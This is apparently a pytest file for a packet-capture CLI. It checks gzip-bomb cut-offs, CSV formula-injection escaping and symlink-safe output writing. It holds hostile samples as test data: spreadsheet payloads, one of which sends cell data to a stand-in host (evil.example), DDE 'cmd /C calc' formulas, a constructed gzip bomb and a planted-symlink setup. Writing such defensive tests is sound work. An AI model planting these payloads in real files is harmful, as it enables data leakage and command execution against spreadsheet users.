"""The three leftovers of the first security pass: gzip bombs, CSV formula injection, symlinked output files.

- A gzip capture inflates to at most ``max(TRACER_GZIP_MAX_MB, TRACER_GZIP_MAX_RATIO x compressed size)``; beyond
  that tracer keeps the packets inflated before the cut with one warning line, exit 0, like a gzip stream cut short.
  The expected packet count comes from the independent walker (``capwalk``) over the inflated bytes we built.
- ``tracer show --format csv`` prefixes a ``'`` to string cells a spreadsheet would run as a formula (OWASP); numeric
  cells (negative ones too) stay numbers and jsonl keeps the raw text.
- ``tracer ifaces --cluster-yaml PATH`` and the files ``tracer lab capture`` writes (``cluster.yaml``,
  ``traffic.json``) replace a symlink planted at the name instead of writing through it (CWE-59).
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import stat
import struct
import threading
import zlib
from pathlib import Path

import capture_writers as W
import pytest

from .capwalk import walk
from .runner import need_command, run_cli

MB = 1 << 20


# ----- gzip bombs -----------------------------------------------------------------------------------------------

def _frame(k: int, payload: bytes = b"hello") -> bytes:
    """An Ethernet/IPv4/UDP frame built with scapy (10.0.0.1:1000+k -> 10.0.0.2:53)."""
    from scapy.layers.inet import IP, UDP
    from scapy.layers.l2 import Ether

    return bytes(Ether() / IP(src="10.0.0.1", dst="10.0.0.2") / UDP(sport=1000 + k, dport=53) / payload)


def _bomb(good: int = 5, zero_records: int = 1 << 19) -> bytes:
    """A classic pcap: ``good`` UDP packets, then ``zero_records`` zero-length records (16 bytes each, all zero
    but the header: the best deflate can do, ~1000:1)."""
    head = W.pcap_bytes([(1_700_000_000_000_000_000 + k * 1000, _frame(k)) for k in range(good)])
    return head + bytes(16) * zero_records


def _gzip(data: bytes) -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, 31)       # wbits 31: a gzip member
    return co.compress(data) + co.flush()


def _rows(out: str) -> list[dict]:
    return [json.loads(line) for line in out.splitlines() if line.strip()]


@pytest.fixture
def small_limit(monkeypatch: pytest.MonkeyPatch) -> tuple[int, float]:
    """A 1 MiB floor and a 20x ratio, so a bomb crosses the limit in a few MiB (the defaults are 128 MiB, 200x)."""
    monkeypatch.setenv("TRACER_GZIP_MAX_MB", "1")
    monkeypatch.setenv("TRACER_GZIP_MAX_RATIO", "20")
    return MB, 20.0


def test_gzip_bomb_is_cut_at_the_limit_keeping_the_packets_before(tmp_path: Path, capsys, small_limit) -> None:
    """A gzip file inflating past max(floor, ratio x size) stops there: exactly the complete records inflated
    before the limit are shown (show and the TUI's IndexBuilder), with one warning line and exit 0."""
    need_command("show")
    raw = _bomb()
    gz = _gzip(raw)
    floor, ratio = small_limit
    limit = int(max(floor, ratio * len(gz)))
    assert len(raw) > 4 * limit                       # a real bomb: far more than the limit lets through
    target = tmp_path / "bomb.pcap.gz"
    target.write_bytes(gz)
    expected = walk(raw[:limit]).packets_before(10**12)
    total = walk(raw).packets_before(10**12)
    assert 5 < expected < total

    result = run_cli(["show", "--format", "jsonl", str(target)], capsys)
    assert result.problem() is None, result.problem()
    assert result.code == 0
    rows = _rows(result.out)
    assert len(rows) == expected
    assert [(r["proto"], r["sport"], r["dport"]) for r in rows[:5]] == [(17, 1000 + k, 53) for k in range(5)]
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("tracer: warning: ")
    assert "gzip limit" in lines[0] and "TRACER_GZIP_MAX_RATIO" in lines[0]
    assert f"(kept {expected} packets)" in lines[0]

    from tracer.capture.index import IndexBuilder

    builder = IndexBuilder([str(target)])
    for _ in builder.run(batch=4096):
        pass
    assert len(builder.index) == expected
    assert int(builder.index["offset"].max()) < limit     # nothing read beyond the limit
    assert len(builder.index.warnings) == 1


def test_gzip_bomb_on_stdin_is_cut(capsys, monkeypatch: pytest.MonkeyPatch, small_limit) -> None:
    """`tracer show -` fed a gzip bomb through a pipe stops at the limit too (ratio over the bytes read so far):
    the first rows in order, fewer than the bomb holds, the count the warning states."""
    need_command("show")
    raw = _bomb()
    gz = _gzip(raw)
    total = walk(raw).packets_before(10**12)
    read_fd, write_fd = os.pipe()

    def feed() -> None:
        with os.fdopen(write_fd, "wb") as pipe:
            try:
                pipe.write(gz)
            except BrokenPipeError:
                pass

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    with os.fdopen(read_fd, "r") as stdin:
        monkeypatch.setattr("sys.stdin", stdin)
        result = run_cli(["show", "--format", "jsonl", "-"], capsys)
    writer.join(5)
    assert result.problem() is None, result.problem()
    assert result.code == 0
    rows = _rows(result.out)
    assert 5 < len(rows) < total
    assert len(rows) <= walk(raw[:int(max(small_limit[0], small_limit[1] * len(gz)))]).packets_before(10**12)
    assert [r["no"] for r in rows] == list(range(1, len(rows) + 1))
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and "gzip limit" in lines[0] and f"(kept {len(rows)} packets)" in lines[0]


@pytest.mark.parametrize("case", ["small-but-compressible", "large-but-honest", "limit-lifted"])
def test_gzip_within_either_bound_is_read_whole(tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch,
                                               small_limit, case: str) -> None:
    """Only inflating past BOTH the floor and the ratio is cut: a tiny file at 1000:1 under the floor, a file
    bigger than the floor at an honest ratio, and any bomb with TRACER_GZIP_MAX_RATIO=inf give every packet."""
    need_command("show")
    if case == "small-but-compressible":
        raw = _bomb(zero_records=(MB // 2) // 16)                 # 0.5 MiB inflated, ~1000:1
    elif case == "large-but-honest":
        rng = random.Random(7)
        frames = [(1_700_000_000_000_000_000 + k, _frame(k, rng.randbytes(1400))) for k in range(2400)]
        raw = W.pcap_bytes(frames)                                # 3.4 MiB of random payloads, ~1:1
    else:
        monkeypatch.setenv("TRACER_GZIP_MAX_RATIO", "inf")
        raw = _bomb(zero_records=(3 * MB) // 16)                  # 3 MiB at ~1000:1: cut without "inf"
    gz = _gzip(raw)
    assert len(raw) > MB or len(raw) / len(gz) > 20
    target = tmp_path / "x.pcap.gz"
    target.write_bytes(gz)
    result = run_cli(["show", "--format", "jsonl", str(target)], capsys)
    assert result.problem() is None, result.problem()
    assert (result.code, result.err) == (0, "")
    assert len(_rows(result.out)) == walk(raw).packets_before(10**12)


@pytest.mark.parametrize("value", ["lots", "-1", "nan"])
def test_bad_gzip_limit_setting_is_one_line(tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch,
                                            value: str) -> None:
    """A malformed TRACER_GZIP_MAX_RATIO is one error line naming the variable, exit 2."""
    need_command("show")
    monkeypatch.setenv("TRACER_GZIP_MAX_RATIO", value)
    target = tmp_path / "x.pcap.gz"
    target.write_bytes(_gzip(_bomb(zero_records=10)))
    result = run_cli(["show", str(target)], capsys)
    assert result.problem() is None, result.problem()
    assert result.code == 2
    assert "TRACER_GZIP_MAX_RATIO" in result.err and len(result.err.strip().splitlines()) == 1


# ----- CSV formula injection ------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(\"http://evil.example\")",       # full-width '='
    "=evil/eth0",                                     # NODE/IFACE: the node column gets "=evil"
)
HARMLESS = ("eth0", "x=1+1", "node2/cni0")
LEADS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _expected_csv(value: str) -> str:
    return "'" + value if value.startswith(LEADS) and value != "-" else value


def _hostile_pcapng() -> bytes:
    names = FORMULAS + HARMLESS
    out = [W.shb()]
    out += [W.idb(name=n, tsresol=9) for n in names]
    out.append(W.idb(name="tab", tsresol=9, tsoffset=-100))   # timestamps before 1970: negative numbers
    for k in range(len(names) + 1):
        out.append(W.epb("<", k, 1_700_000_000_000_000_000 + k if k < len(names) else 0, _frame(k)))
    return b"".join(out)


def _csv_vs_jsonl(capsys, argv: list[str]) -> list[tuple[str, object, str]]:
    """(key, jsonl value, csv cell) for every cell of ``tracer show`` in both formats."""
    j = run_cli(["show", "--format", "jsonl", *argv], capsys)
    c = run_cli(["show", "--format", "csv", *argv], capsys)
    assert j.problem() is None and c.problem() is None, (j.problem(), c.problem())
    assert j.code == c.code == 0
    jrows = _rows(j.out)
    crows = list(csv.DictReader(io.StringIO(c.out)))
    assert len(jrows) == len(crows) > 0
    return [(key, jr[key], cr[key]) for jr, cr in zip(jrows, crows) for key in jr]


def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every CSV string cell starting with = + - @ (or full-width forms) gets a leading ', every other cell is the
    jsonl value unchanged; numbers, negative timestamps included, stay plain numbers; jsonl keeps the raw names."""
    need_command("show")
    monkeypatch.chdir(tmp_path)
    name = "=1+2.pcapng"                                     # the file column comes from the command line
    (tmp_path / name).write_bytes(_hostile_pcapng())
    cells = _csv_vs_jsonl(capsys, [name])
    seen_points = {v for k, v, _ in cells if k == "point"}
    assert set(FORMULAS + HARMLESS) <= seen_points          # jsonl: the names as the file holds them
    assert {v for k, v, _ in cells if k == "file"} == {name}
    assert "=evil" in {v for k, v, _ in cells if k == "node"}
    negative = [c for k, v, c in cells if k == "ts" and v < 0]
    assert negative and all(c.startswith("-") for c in negative)
    quoted = 0
    for key, value, cell in cells:
        if value is None:
            assert cell == "", (key, cell)
        elif isinstance(value, str):
            assert cell == _expected_csv(value), (key, value, cell)
            quoted += cell != value
        else:                                               # a number: the same number, no quote
            assert not cell.startswith("'") and float(cell) == value, (key, value, cell)
    # file x every row, the six formula points, and the node of =evil/eth0
    assert quoted >= len(FORMULAS) + 1 + 1


def test_csv_controls_at_the_start_are_escaped_not_leading(tmp_path: Path, capsys) -> None:
    """A name starting with tab or CR is shown escaped (\\x09), so no CSV cell starts with a control character."""
    need_command("show")
    path = tmp_path / "ctl.pcapng"
    path.write_bytes(W.shb() + W.idb(name="\t=1+1", tsresol=9) + W.idb(name="\r@x", tsresol=9)
                     + W.epb("<", 0, 1, _frame(0)) + W.epb("<", 1, 2, _frame(1)))
    result = run_cli(["show", "--format", "csv", str(path)], capsys)
    assert result.problem() is None and result.code == 0
    points = [r["point"] for r in csv.DictReader(io.StringIO(result.out))]
    assert points == ["\\x09=1+1", "\\x0d@x"]


def test_csv_stdin_file_name_stays_a_dash(capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    """The file column of standard input is '-', which no spreadsheet runs: left as it is, as scripts read it."""
    need_command("show")
    read_fd, write_fd = os.pipe()
    os.write(write_fd, W.pcap_bytes([(1_700_000_000_000_000_000, _frame(0))]))
    os.close(write_fd)
    with os.fdopen(read_fd, "r") as stdin:
        monkeypatch.setattr("sys.stdin", stdin)
        result = run_cli(["show", "--format", "csv", "-"], capsys)
    assert result.problem() is None and result.code == 0
    assert [r["file"] for r in csv.DictReader(io.StringIO(result.out))] == ["-"]


# ----- output files never written through a planted symlink -----------------------------------------------------

def _plant(directory: Path, name: str) -> tuple[Path, Path]:
    """A victim file and a symlink to it at ``directory/name`` (what another user could leave there)."""
    victim = directory / "victim"
    victim.write_bytes(b"precious\n")
    link = directory / name
    link.symlink_to(victim)
    return victim, link


def _replaced(victim: Path, link: Path) -> None:
    assert victim.read_bytes() == b"precious\n"             # the link's target is untouched
    assert not link.is_symlink() and link.is_file()         # the link itself was replaced by the new file
    assert stat.S_IMODE(link.stat().st_mode) == 0o644
    assert not [p.name for p in link.parent.iterdir() if p.name.endswith(".tmp")]   # no temporary file left


def test_ifaces_cluster_yaml_replaces_a_planted_symlink(tmp_path: Path, capsys) -> None:
    """`tracer ifaces --cluster-yaml PATH` with PATH a symlink to another file: the target keeps its bytes, PATH
    becomes the YAML, which tracer loads as a cluster with this node."""
    need_command("ifaces")
    victim, link = _plant(tmp_path, "cluster.yaml")
    result = run_cli(["ifaces", "--cluster-yaml", str(link)], capsys)
    assert result.problem() is None, result.problem()
    assert result.code == 0
    _replaced(victim, link)
    from tracer.k8s import load_cluster

    assert len(load_cluster(str(link)).nodes) >= 1


def test_ifaces_cluster_yaml_onto_a_directory_is_one_line(tmp_path: Path, capsys) -> None:
    """A directory at the name: one error line, exit 2, nothing left behind."""
    need_command("ifaces")
    (tmp_path / "d").mkdir()
    result = run_cli(["ifaces", "--cluster-yaml", str(tmp_path / "d")], capsys)
    assert result.problem() is None, result.problem()
    assert result.code == 2 and "cannot write" in result.err
    assert [p.name for p in tmp_path.iterdir()] == ["d"] and not list((tmp_path / "d").iterdir())


def test_lab_capture_outputs_replace_planted_symlinks(tmp_path: Path) -> None:
    """The files `tracer lab capture OUTDIR` writes besides the captures (cluster.yaml, traffic.json) replace a
    symlink planted at their names; the YAML loads with every lab pod, the JSON has the flows given."""
    from tracer.k8s import load_cluster
    from tracer.lab.cluster import write_cluster_yaml
    from tracer.lab.plan import make_plan

    plan = make_plan("flannel-vxlan")
    victim, link = _plant(tmp_path, "cluster.yaml")
    write_cluster_yaml(plan, str(link))
    _replaced(victim, link)
    assert len(load_cluster(str(link)).pods) == len(plan.pods)

    from tracer.lab.capture import write_traffic_json

    link.unlink()
    victim2, link2 = _plant(tmp_path, "traffic.json")
    flows = [{"src": "linux/nginx", "dst": "linux/tomcat", "ok": False}]
    write_traffic_json(plan, str(link2), flows, {"node2": 25.0})
    _replaced(victim2, link2)
    saved = json.loads(link2.read_text())
    assert (saved["mode"], saved["flows"], saved["clock_skew_ms"]) == (plan.mode, flows, {"node2": 25.0})
